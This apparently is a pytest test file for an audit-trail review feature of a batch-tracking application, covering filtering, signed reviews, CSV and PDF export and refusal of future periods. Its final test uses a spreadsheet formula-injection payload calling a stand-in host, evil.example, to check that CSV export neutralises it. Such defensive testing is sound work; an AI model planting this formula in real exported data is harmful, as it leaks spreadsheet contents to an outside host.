"""Audit trail review (Annex 11 §9) on real SQLite and real PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from tests.network import PASSWORD, act, advance, order, small_network
from vein2vein.domain.batch import Action, BatchState
from vein2vein.domain.clock import FixedClock
from vein2vein.domain.errors import InvalidInput, PermissionDenied, SignatureRefused
from vein2vein.services import audit_review as review
from vein2vein.services import queries
from vein2vein.services.app import App
from vein2vein.services.auth import Signing


def test_the_trail_filters_by_batch_person_action_and_period(app: App, clock: FixedClock) -> None:
    crew = small_network(app)
    first = order(app, "PT-000101")
    advance(app, first, BatchState.RELEASED, clock)
    clock.advance(timedelta(days=3))
    second = order(app, "PT-000202")
    advance(app, second, BatchState.RECEIVED, clock)
    qa = crew.qa.actor

    of_first = review.audit_trail(app, qa, review.AuditFilter.parse(lot=first))
    assert of_first.total == len(of_first.entries) > 0
    assert {e.entity_id for e in of_first.entries} == {first}
    released = review.audit_trail(app, qa, review.AuditFilter.parse(action="BatchReleased"))
    assert [e.entity_id for e in released.entries] == [first]
    assert released.signatures[released.entries[0].seq].meaning == "released"
    by_qp = review.audit_trail(app, qa, review.AuditFilter.parse(actor="qp.cp1"))
    assert {e.actor for e in by_qp.entries} == {"qp.cp1"} and by_qp.total >= 1

    today = clock.now().date().isoformat()
    todays = review.audit_trail(app, qa, review.AuditFilter.parse(since=today, until=today))
    assert todays.entries and all(e.at.startswith(today) for e in todays.entries)
    assert {e.entity_id for e in todays.entries if e.entity_type == "batch"} == {second}
    cut = review.audit_trail(app, qa, review.AuditFilter(), limit=5)
    assert len(cut.entries) == 5 and cut.truncated and cut.total > 5

    with pytest.raises(InvalidInput, match="since '2026-13-01': expected a date"):
        review.AuditFilter.parse(since="2026-13-01")
    with pytest.raises(InvalidInput, match="before since"):
        review.AuditFilter.parse(since="2026-03-02", until="2026-03-01")


def test_a_review_is_recorded_with_a_reviewed_signature(app: App, clock: FixedClock) -> None:
    crew = small_network(app)
    lot = order(app)
    advance(app, lot, BatchState.QC_PENDING, clock)
    day = clock.now().date().isoformat()
    period = review.AuditFilter.parse(since=day, until=day)
    with pytest.raises(PermissionDenied, match="needs the role qa-reviewer"):
        review.record_review(
            app.uow(), crew["qp.cp1"], period, comment="fine", signing=Signing(PASSWORD, "qp.cp1")
        )
    with pytest.raises(InvalidInput, match="covers a period"):
        review.record_review(
            app.uow(), crew.qa, review.AuditFilter(), comment="x", signing=Signing(PASSWORD)
        )
    with pytest.raises(SignatureRefused):
        review.record_review(
            app.uow(), crew.qa, period, comment="x", signing=Signing("wrong", "qa.cp1")
        )
    covered = review.audit_trail(app, crew.qa.actor, period).total
    seq = review.record_review(
        app.uow(),
        crew.qa,
        period,
        comment="no unexplained changes; one refused signature followed up",
        signing=Signing(PASSWORD, "qa.cp1"),
    )
    listed = review.reviews(app, crew.qa.actor)
    assert listed.entries[0].seq == seq
    entry = listed.entries[0]
    assert entry.action == "AuditTrailReviewed" and entry.new["records"] == covered
    signed = listed.signatures[seq]
    assert (signed.meaning, signed.signer_name, signed.matches) == (
        "reviewed",
        "Quinn Assurance",
        True,
    )
    assert app.verify_audit().ok


def test_the_trail_exports_as_csv_and_pdf(app: App, clock: FixedClock) -> None:
    crew = small_network(app)
    lot = order(app)
    advance(app, lot, BatchState.RELEASED, clock)
    view = review.audit_trail(app, crew.qa.actor, review.AuditFilter.parse(lot=lot))
    rows = list(csv.DictReader(io.StringIO(review.to_csv(view))))
    assert len(rows) == view.total
    assert [r["seq"] for r in rows] == sorted((r["seq"] for r in rows), key=int)
    released = next(r for r in rows if r["action"] == "BatchReleased")
    assert "released by Dr Kim Lee (qp.cp1)" in released["signature"]
    assert 'state="RELEASED"' in released["new"] and 'state="QC_PENDING"' in released["old"]
    pdf = review.to_pdf(view, printed_by=crew.qa.actor, printed_at=clock.now())
    assert pdf.startswith(b"%PDF") and len(pdf) > 2000
    assert queries.batch_view(app, lot).batch.state == "RELEASED"


def test_a_review_of_a_period_to_come_is_refused(app: App, clock: FixedClock) -> None:
    crew = small_network(app)
    future = (clock.now() + timedelta(days=30)).date().isoformat()
    with pytest.raises(InvalidInput, match="is in the future"):
        review.record_review(
            app.uow(),
            crew.qa,
            review.AuditFilter.parse(since="2026-01-01", until=future),
            comment="looks fine",
            signing=Signing(PASSWORD, "qa.cp1"),
        )


def test_a_reason_that_looks_like_a_formula_is_exported_as_text(app: App) -> None:
    crew = small_network(app)
    lot = order(app)
    act(app, lot, Action.HOLD, reason='=HYPERLINK("http://evil.example/?"&A1,"click")')
    view = review.audit_trail(app, crew.qa.actor, review.AuditFilter.parse(lot=lot))
    rows = list(csv.DictReader(io.StringIO(review.to_csv(view))))
    held = next(r for r in rows if r["action"] == "BatchPutOnHold")
    assert held["reason"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
